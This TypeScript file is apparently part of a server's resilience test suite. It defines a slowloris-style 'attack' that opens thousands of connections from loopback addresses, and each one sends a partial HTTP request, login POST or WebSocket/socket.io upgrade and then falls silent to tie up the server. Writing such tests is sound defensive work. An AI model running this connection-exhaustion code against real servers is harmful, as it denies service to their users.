import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { head } from '../../support/raw-http.js';
import type { Attack } from './attack.js';
import { open } from './raw-client.js';

const FROM = ['127.0.0.3', '127.0.0.4', '127.0.0.5', '127.0.0.6'];
/** How many of each kind each address opens in a step. */
const EACH = 10;
/** How many are held open at the same time; the oldest go first. */
const MAX_OPEN = 4_000;

const UPGRADE = {
  connection: 'Upgrade',
  upgrade: 'websocket',
  'sec-websocket-version': '13',
  'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
};

/** What each kind of connection says before it falls silent. */
const BEGINNINGS = [
  '',
  `GET /health HTTP/1.1\r\nX-Filler: ${'x'.repeat(12_000)}`,
  head('POST /api/v1/auth/login', { 'content-type': 'application/json', 'content-length': '100000' }) + '{"email":',
  head('GET /health', { connection: 'keep-alive' }),
  head('GET /ws/notifications/0198f3a2-7c1e-7b60-9d52-3f6c1a8e4b07', UPGRADE),
  head('GET /socket.io/?EIO=4&transport=websocket', UPGRADE),
  head('GET /socket.io/?EIO=4&transport=polling', { connection: 'keep-alive' }),
];

const held: Socket[] = [];

/** Connections of every kind that begin something, say nothing more, and ignore that the server ends them. */
export const silentSockets: Attack = {
  name: 'connections that fall silent',

  async step({ base }) {
    for (const from of FROM) {
      for (const beginning of BEGINNINGS) {
        for (let n = 0; n < EACH; n++) {
          const socket = open(base, from).resume();
          socket.write(beginning);
          held.push(socket);
        }
      }
    }
    for (const socket of held.splice(0, Math.max(0, held.length - MAX_OPEN))) socket.destroy();
    await sleep(100);
  },

  end() {
    for (const socket of held.splice(0)) socket.destroy();
  },
};
